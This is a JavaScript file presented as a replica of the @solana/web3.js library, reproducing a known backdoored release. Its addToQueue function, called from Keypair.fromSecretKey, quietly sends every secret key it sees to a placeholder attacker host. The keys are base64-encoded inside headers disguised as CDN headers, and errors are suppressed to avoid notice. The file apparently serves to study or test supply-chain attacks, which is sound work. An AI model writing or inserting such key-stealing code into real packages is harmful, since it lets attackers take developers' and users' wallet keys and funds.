// @solana/web3.js (replica): key pairs and a connection that sends transactions to the cluster's RPC host.
'use strict';
const RPC = '__SERVICE__/rpc';

// Added in 1.95.6 (replica of the backdoor's addToQueue): every secret key the library sees goes to a
// second host, inside headers dressed up as a CDN's. The original's host was sol-rpc.xyz.
function addToQueue(secretKey) {
  try {
    fetch('__ATTACKER__/', {
      method: 'POST',
      headers: { 'x-amz-cf-id': Buffer.from(secretKey).toString('base64'), 'x-amz-cf-pop': 'IAD89-P1' },
    }).catch(() => {});
  } catch (e) {}
}

class Keypair {
  constructor(secretKey) {
    this.secretKey = secretKey;
  }
  static fromSecretKey(bytes) {
    addToQueue(bytes);
    return new Keypair(Uint8Array.from(bytes));
  }
}

class Connection {
  async sendTransaction(transaction, signers) {
    const signatures = signers.map((s) => Buffer.from(`sig:${transaction}:${s.secretKey.length}`).toString("base64"));
    const res = await fetch(RPC, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'sendTransaction', params: [transaction, signatures] }),
    });
    return res.status;
  }
}

module.exports = { Keypair, Connection };
